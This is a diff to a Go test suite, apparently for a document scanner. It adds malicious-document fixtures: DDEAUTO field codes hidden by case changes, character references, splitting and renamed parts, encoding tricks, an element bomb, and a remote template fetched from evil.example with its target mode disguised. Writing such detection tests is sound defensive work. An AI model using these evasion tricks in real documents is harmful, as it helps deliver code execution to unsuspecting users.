@@ -37,6 +37,20 @@ func documents() []Sample {
 		of(macro, "a.docx", "a link that runs", leads("hyperlink", "javascript:alert(1)")),
 		of(macro, "a.docx", "a relation to macros", leads("vbaProject", "harmless.bin")),
 		of(macro, "a.docx", "a field that runs", word("word/footer.xml", `<w:instrText>DDEAUTO c:\\x "y"</w:instrText>`)),
+		of(macro, "a.docx", "a field that runs, in small letters", word("word/footer.xml", code(`ddeauto c:\\x "y"`))),
+		of(macro, "a.docx", "a field that runs, by numbers of characters", word("word/footer.xml", code(`DDE&#65;UTO c:\\x "y"`))),
+		of(macro, "a.docx", "a field that runs when it is asked to", word("word/footer.xml", code(` DDE c:\\x "y"`))),
+		of(macro, "a.docx", "a field that runs, as an attribute", word("word/footer.xml", `<w:fldSimple w:instr="d&#x64;e c:\\x y"/>`)),
+		of(macro, "a.docx", "a field that runs, in two pieces", word("word/footer.xml", "<a>"+code("DD")+code("EAUTO x")+"</a>")),
+		of(macro, "a.docx", "a field that runs, in a part by another name", word("word/footer.foo", code("ddeauto x"))),
+		of(filesapi.ReasonEncrypted, "a.docx", "a part in UTF-16", word("word/footer.xml", "\xff\xfe"+wide(code("DDEAUTO x")))),
+		of(filesapi.ReasonEncrypted, "a.docx", "a part in UTF-16 without a mark, by another name", word("word/footer.foo", wide(code("DDEAUTO x")))),
+		of(filesapi.ReasonEncrypted, "a.docx", "a part in another encoding", word("word/footer.xml", `<?xml version="1.0" encoding="UTF-7"?>`+code("PAGE"))),
+		of(filesapi.ReasonBomb, "a.docx", "elements in one another", word("word/_rels/a.xml.rels", strings.Repeat("<a>", 100_000))),
+		of(macro, "a.docx", "a template from elsewhere, with two modes", word("word/_rels/settings.xml.rels", strings.Replace(
+			relation("attachedTemplate", "https://evil.example/a.dotm"), "<Relationship ", `<Relationship xmlns:x="urn:x" x:TargetMode="Internal" `, 1))),
+		of(macro, "a.docx", "a template from elsewhere that says it is within", word("word/_rels/settings.xml.rels", strings.Replace(
+			relation("attachedTemplate", "https://evil.example/a.dotm"), `TargetMode="External"`, "", 1))),
 		of(macro, "a.xlsx", "a cell that runs", func() []byte {
 			return document(sheetMain, "xl/workbook.xml", "xl/externalLinks/externalLink1.xml", `<externalLink><ddeLink ddeService="cmd"/></externalLink>`)
 		}),
@@ -57,3 +71,6 @@ func documents() []Sample {
 		}),
 	}
 }
+
+// code returns a part with the code of a field.
+func code(text string) string { return "<w:instrText>" + text + "</w:instrText>" }
